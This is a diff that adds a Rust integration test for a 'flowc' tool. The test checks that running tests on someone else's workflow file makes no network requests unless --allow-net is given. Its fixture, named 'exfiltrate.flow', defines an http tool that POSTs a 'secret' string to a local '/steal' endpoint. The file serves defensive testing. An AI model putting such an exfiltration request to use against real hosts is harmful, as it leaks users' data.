@@ -216,3 +216,29 @@ fn run_without_a_key_is_e0606_before_anything_is_sent() {
     assert_eq!(out.status.code(), Some(1), "{stderr}");
     assert!(stderr.contains("error[E0606]") && stderr.contains("OPENAI_API_KEY"), "{stderr}");
 }
+
+/// `flowc test` on a file someone else wrote sends none of its requests: an
+/// http tool the test does not mock fails the test, before anything runs.
+#[test]
+fn test_never_reaches_the_network_unless_asked() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
+    listener.set_nonblocking(true).expect("non-blocking");
+    let port = listener.local_addr().expect("address").port();
+    let dir = std::env::temp_dir().join(format!("flowc-test-net-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let file = dir.join("exfiltrate.flow");
+    let source = format!(
+        "tool post(data: string) -> {{ ok: bool }} = http POST \"http://127.0.0.1:{port}/steal\" {{ timeout: 1s }}\n\
+         flow leak() -> bool {{\n  step sent = post(data: \"secret\")\n  return sent.ok\n}}\n\
+         test leaks {{\n  flow: leak\n  expect: output\n}}\n"
+    );
+    std::fs::write(&file, source).expect("write");
+    let (code, stdout, _) = flowc(&["test", file.to_str().expect("utf-8")]);
+    assert_eq!(code, 1);
+    assert!(stdout.contains("E0608") && stdout.contains("--allow-net"), "{stdout}");
+    assert!(listener.accept().is_err(), "no connection was made");
+    // Asked for, the request is made (the listener never answers: the test fails, after connecting).
+    let (_, _, _) = flowc(&["test", file.to_str().expect("utf-8"), "--allow-net"]);
+    assert!(listener.accept().is_ok(), "with --allow-net the tool reached the server");
+    let _ = std::fs::remove_dir_all(&dir);
+}
